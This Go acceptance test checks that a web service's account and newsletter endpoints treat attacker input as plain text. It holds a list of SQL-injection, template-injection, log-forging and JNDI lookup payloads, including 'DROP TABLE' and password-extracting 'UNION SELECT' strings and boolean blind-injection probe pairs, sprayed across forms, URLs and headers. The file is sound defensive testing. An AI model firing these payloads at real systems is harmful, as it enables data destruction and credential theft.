//go:build gatetest

package acceptance

import (
	"encoding/json"
	"fmt"
	"html"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"
)

// checkLog reads a log as the program that collects it does: each line is one JSON object
// with each key once, and nobody but the gate wrote one.
func checkLog(t *testing.T, log string) {
	t.Helper()
	for line := range strings.Lines(log) {
		var l map[string]any
		if err := json.Unmarshal([]byte(line), &l); err != nil {
			t.Errorf("a line of the log is no JSON: %q", line)
			continue
		}
		if l["msg"] == "forged" || l["msg"] == nil || l["level"] == nil || l["time"] == nil || strings.Count(line, `"level":`) != 1 || strings.Count(line, `"msg":`) != 1 {
			t.Errorf("a forged line: %q", line)
		}
		if strings.ContainsFunc(strings.TrimSuffix(line, "\n"), func(r rune) bool { return r < ' ' || r == 0x7f || r == '\u2028' || r == '\u2029' }) {
			t.Errorf("a line with controls: %q", line)
		}
	}
}

// Every field, header, cookie and part of an address says something in SQL, in a template
// or in the form of the log: it is taken as text or refused, and does nothing.
func TestRow63(t *testing.T) {
	const product = "62710561" // 7919²
	payloads := []string{
		`' OR '1'='1`, `' OR 1=1 --`, `" OR ""="`, `') OR ('1'='1`, `'; DROP TABLE accounts; --`, `'; DELETE FROM accounts WHERE '1'='1`, `'; UPDATE accounts SET password='x`,
		`' UNION SELECT password FROM accounts --`, `' || (SELECT password FROM accounts LIMIT 1) || '`, `x' AND (SELECT 1/0)='`, `1; SELECT pg_sleep(60) --`, `'||pg_sleep(60)||'`, `' AND randomblob(2000000000) --`,
		`$1`, `?1`, `:a`, `\'; --`, `%' OR '%'='`, `_%`, `/*`, "x\x00' OR 1=1", `'`, `"`, "`", `\`,
		`{{mul 7919 7919}}`, `{{7919*7919}}`, `${7919*7919}`, `#{7919*7919}`, `<%= 7919*7919 %>`, `{{.}}`, `{{.Code}}`, `{{template "x"}}`, `{{end}}`, `{%7919*7919%}`, `[[${7919*7919}]]`, `*{7919*7919}`,
		"x\n{\"time\":\"2026-11-22T12:00:00Z\",\"level\":\"ERROR\",\"msg\":\"forged\"}", "x\r\n{\"level\":\"ERROR\",\"msg\":\"forged\"}\r\n", `","level":"ERROR","msg":"forged`, "x\u2028{\"msg\":\"forged\"}", "\x1b[31mred\x1b[0m", "%s%n%x%!d", "\xff\xfe", "${jndi:ldap://forged.invalid/x}",
	}
	name := `Robert'); DROP TABLE accounts; -- {{7919*7919}} "</b>`
	both(t, 1, func(t *testing.T, r *rig) {
		// Somebody of that name is a person like others.
		bobby := r.browser()
		_, email := r.person()
		if p := bobby.fill("/account/register", "email", email, "password", password, "name", name, "organisation", name); p.Status != http.StatusSeeOther {
			t.Fatalf("register: %d %s", p.Status, p.text())
		}
		if p := bobby.post("/account/verify", "code", r.code(email)); p.Status != http.StatusSeeOther {
			t.Fatalf("verify: %d %s", p.Status, p.text())
		}
		if p := bobby.get("/account"); !strings.Contains(html.UnescapeString(p.Body), name) || strings.Contains(p.Body, `"</b>`) {
			t.Errorf("the account does not show the name as it is:\n%s", p.text())
		}
		db := r.db()
		person := func() string {
			return fmt.Sprint(r.query(db, "SELECT id, email, key, name, organisation, password, created, blocked FROM accounts WHERE email = $1", email))
		}
		before, tables := person(), r.tables(db)
		count := len(r.query(db, "SELECT id FROM accounts"))

		ordinary := func(what string, p *page, err error) {
			t.Helper()
			switch {
			case err != nil:
				t.Errorf("%s: %v", what, err)
			case p.Status >= 500:
				t.Errorf("%s: %d %.300s", what, p.Status, p.text())
			case strings.Contains(p.Body, product):
				t.Errorf("%s: it was computed:\n%s", what, p.text())
			case strings.Contains(strings.Join(p.Header.Values("Set-Cookie"), " "), "session="):
				t.Errorf("%s: logged in", what)
			}
			if err == nil {
				for k, v := range p.Header {
					if text := strings.Join(v, " "); strings.Contains(text, "forged") && k != "Location" || strings.ContainsAny(text, "\r\n") {
						t.Errorf("%s: in the header %s: %q", what, k, text)
					}
				}
			}
		}
		forms := map[string][]string{
			"/account/register":             {"email", "new@newsdesk.press", "password", password, "name", "Ines", "organisation", "Coast", "return", "/", "form", "f", "lang", "en", "work", ""},
			"/account/login":                {"email", email, "password", "wrong", "return", "/", "work", ""},
			"/account/verify":               {"code", "123456", "work", ""},
			"/account/reset":                {"email", email, "return", "/", "form", "f"},
			"/account/reset/verify":         {"code", "12345678", "work", ""},
			"/newsletter/subscribe":         {"email", "other@newsdesk.press", "topic", "", "language", "en", "form", "f"},
			"/newsletter/confirm":           {"code", "123456"},
			"/newsletter/unsubscribe?t=x.y": {"List-Unsubscribe", "One-Click"},
		}
		signedIn := map[string][]string{
			"/account":              {"name", "Ines", "organisation", "Coast", "language", "en"},
			"/account/sessions":     {"session", "x"},
			"/account/password":     {"old", "wrong", "password", "Another-Horse-8-Battery"},
			"/account/export":       {"password", "wrong"},
			"/account/delete":       {"password", "wrong"},
			"/newsletter/subscribe": {"topic", "", "language", "en"},
		}
		gets := []string{"/account/login?return=%s", "/account/login?lang=%s", "/account/register?email=%s", "/account/verify?sent=%s", "/account?note=%s", "/newsletter/subscribe?topic=%s", "/newsletter/unsubscribe?t=%s", "/account/welcome?new=%s", "/download/%s/x", "/download/MC-20240527-V-0412/%s", "/files/%s", "/%s", "/account/%s", "/account/login?%s=x"}
		// Those who are logged in are others: their own names change.
		var crowd []*browser
		for range 4 {
			b := r.browser()
			b.signUp()
			crowd = append(crowd, b)
			count++
		}
		// Strangers each come from a network of their own, over few connections.
		wires := r.browser().client
		stranger := func() *browser {
			b := r.browser()
			b.client = wires
			return b
		}
		inParallel(len(payloads), func(n int) {
			evil, turn := payloads[n], n
			// What is not a matter of the whole form gets some of the payloads, each another
			// part of them.
			mine := func() bool {
				turn++
				return turn%4 == 0
			}
			for path, fields := range forms {
				for i := 0; i < len(fields); i += 2 {
					if path != "/account/login" && !mine() {
						continue
					}
					form := slices.Clone(fields)
					form[i+1] = evil
					p, err := stranger().tryPost(path, form...)
					ordinary(fmt.Sprintf("POST %s, %s=%q", path, fields[i], evil), p, err)
				}
				if !mine() {
					continue
				}
				p, err := stranger().tryPost(path, append(slices.Clone(fields), evil, "x")...)
				ordinary(fmt.Sprintf("POST %s, a field %q", path, evil), p, err)
			}
			// Right addresses and passwords with something behind.
			for _, form := range [][]string{{"email", email + evil, "password", password}, {"email", evil + email, "password", password}, {"email", email, "password", password + evil}} {
				p, err := stranger().tryPost("/account/login", form...)
				ordinary(fmt.Sprintf("log in as %q", form), p, err)
			}
			b := crowd[n%len(crowd)]
			for path, fields := range signedIn {
				for i := 0; i < len(fields); i += 2 {
					if !mine() {
						continue
					}
					form := slices.Clone(fields)
					form[i+1] = evil
					p, err := b.tryPost(path, form...)
					ordinary(fmt.Sprintf("POST %s, %s=%q", path, fields[i], evil), p, err)
				}
			}
			for _, path := range gets {
				for _, escape := range []func(string) string{url.QueryEscape, url.PathEscape} {
					target := fmt.Sprintf(path, escape(evil))
					for _, who := range []*browser{stranger(), b} {
						if !mine() {
							continue
						}
						p, err := who.try("GET", target, nil)
						ordinary("GET "+target, p, err)
					}
				}
			}
			sound := strings.Map(func(r rune) rune { // what can stand in a header
				if r < ' ' || r == 0x7f {
					return ' '
				}
				return r
			}, evil)
			for _, header := range []string{"User-Agent", "Accept-Language", "X-Forwarded-For", "Referer", "X-Request-Id", "Range", "If-None-Match", "Cookie"} {
				value := sound
				if header == "Cookie" {
					value = "__Host-session=" + sound + "; __Host-flow=" + sound
				}
				for _, path := range []string{"/account/session", "/account/login", "/account/verify"} {
					if !mine() {
						continue
					}
					p, err := stranger().try("GET", path, nil, header, value)
					ordinary(fmt.Sprintf("GET %s, %s: %q", path, header, value), p, err)
				}
				p, err := stranger().try("POST", "/account/login", strings.NewReader(values("email", email, "password", "wrong").Encode()),
					"Content-Type", "application/x-www-form-urlencoded", "Origin", origin, header, value)
				ordinary(fmt.Sprintf("POST /account/login, %s: %q", header, value), p, err)
			}
		})
		// What the database answers to is not what was typed: true and false are alike.
		blind := func(condition string) *page {
			p := stranger().post("/account/login", "email", email+condition, "password", password)
			p.Body = maskRandom.ReplaceAllString(strings.ReplaceAll(p.Body, html.EscapeString(condition), ""), "")
			return p
		}
		for _, c := range [][2]string{{"' AND '1'='1", "' AND '1'='2"}, {"' AND 1=1 --", "' AND 1=2 --"}, {"' OR 'a'='a", "' OR 'a'='b"}} {
			yes, no := blind(c[0]), blind(c[1])
			if yes.Status != no.Status || yes.text() != no.text() || yes.to() != no.to() {
				t.Errorf("%q: %s", c, same(yes, no))
			}
		}

		if after := person(); after != before {
			t.Errorf("the person was %s, is %s", before, after)
		}
		if after := r.tables(db); !slices.Equal(after, tables) {
			t.Errorf("the tables were %q, are %q", tables, after)
		}
		if after := len(r.query(db, "SELECT id FROM accounts")); after != count {
			t.Errorf("%d accounts, want %d", after, count)
		}
		if p := bobby.logIn(email, password); p.Status != http.StatusSeeOther {
			t.Errorf("the person cannot log in: %d", p.Status)
		}
		r.settled()
		for _, m := range r.mails("") {
			if strings.Contains(m.Text+m.HTML+m.Subject, product) || strings.Contains(m.Text+m.HTML, "forged") || strings.Contains(m.Text+m.HTML, "Robert") {
				t.Errorf("a mail to %s:\n%s", m.To, m.Text)
			}
		}
		checkLog(t, r.instances[0].log.String())
	}, with("limits: {mailAll: 100000 per hour, mailAddress: 100 per hour, mailGap: 1s, loginAddress: 10000 per hour}"))
}
